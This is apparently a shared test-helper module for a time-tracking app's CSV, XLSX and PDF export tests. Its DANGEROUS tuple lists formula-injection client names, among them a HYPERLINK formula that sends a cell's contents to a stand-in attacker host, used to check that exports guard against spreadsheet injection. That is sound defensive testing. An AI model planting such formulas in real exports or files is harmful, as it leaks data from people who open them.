"""What the export tests share: an account with entries and attendances whose names try to
break a spreadsheet, and readers of what an export answers (CSV rows, XLSX cells, PDF text)."""

from __future__ import annotations

import csv
import io
from datetime import time, timedelta
from typing import Any

import httpx
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet
from pypdf import PdfReader

from timetrack.exports.service import ATTENDANCE_COLUMNS, ENTRY_COLUMNS, TIMESHEET_COLUMNS

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
# Client names that a spreadsheet would run or read as a formula, unguarded.
DANGEROUS = (
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "+1+2",
    "-2+3",
    "@SUM(1,2)",
    "\tTabbed",
    "\rReturned",
)
ENTRY_KEYS = [c.key for c in ENTRY_COLUMNS]
ATTENDANCE_KEYS = [c.key for c in ATTENDANCE_COLUMNS]


async def ok(response: httpx.Response, status: int = 201) -> Any:
    assert response.status_code == status, response.text
    return response.json()


async def make_user(api: httpx.AsyncClient, username: str, **extra: Any) -> dict[str, Any]:
    body = {
        "username": username,
        "firstName": username.title(),
        "lastName": "Example",
        "email": f"{username}@example.com",
        "password": "correct horse",
        **extra,
    }
    created: dict[str, Any] = await ok(await api.post("/users", json=body))
    return created


async def book(
    api: httpx.AsyncClient,
    user: str,
    client: str,
    day: str,
    start: str = "09:00",
    end: str = "10:30",
    **extra: Any,
) -> dict[str, Any]:
    """An entry of ``user`` on project P of ``client`` (made when missing)."""
    clients = (await api.get("/clients", params={"limit": 1000})).json()
    if client not in {c["name"] for c in clients}:
        await ok(await api.post("/clients", json={"name": client}))
        await ok(await api.post("/projects", json={"clientName": client, "projectName": "P"}))
    body = {
        "user": user,
        "clientName": client,
        "projectName": "P",
        "from": f"{day}T{start}:00.000Z",
        "to": f"{day}T{end}:00.000Z",
        **extra,
    }
    entry: dict[str, Any] = await ok(await api.post("/project_time_entries", json=body))
    return entry


def csv_rows(
    response: httpx.Response, *, lang: str = "en", delimiter: str = ","
) -> tuple[list[str], list[dict[str, str]]]:
    """The column keys (docs/api.md's names, from the headings of ``lang``) and the rows, each
    by key, of the CSV an export answered."""
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(b"\xef\xbb\xbf")  # the BOM
    reader = csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=delimiter)
    header, *rows = list(reader)
    columns = (*ENTRY_COLUMNS, *ATTENDANCE_COLUMNS, *TIMESHEET_COLUMNS)
    key_of = {column.heading(lang): column.key for column in columns}
    keys = [key_of[heading] for heading in header]
    return keys, [dict(zip(keys, row, strict=True)) for row in rows]


def workbook_sheet(response: httpx.Response) -> Worksheet:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == XLSX
    sheet: Worksheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    return sheet


def cached_values_sheet(response: httpx.Response) -> Worksheet:
    """The sheet as a reader that does not calculate sees it: formulas as their results."""
    sheet: Worksheet = load_workbook(io.BytesIO(response.content), data_only=True).worksheets[0]
    return sheet


def pdf_text(response: httpx.Response) -> tuple[int, str]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "application/pdf"
    reader = PdfReader(io.BytesIO(response.content))
    return len(reader.pages), "\n".join(page.extract_text() for page in reader.pages)


def minutes(value: object) -> int:
    """An XLSX duration cell in minutes, as openpyxl reads a ``[h]:mm`` cell: a time of day
    under 24 hours, a timedelta past it, or the number of days."""
    if isinstance(value, time):
        return value.hour * 60 + value.minute
    if isinstance(value, timedelta):
        return round(value.total_seconds() / 60)
    assert isinstance(value, int | float), value
    return round(value * 1440)
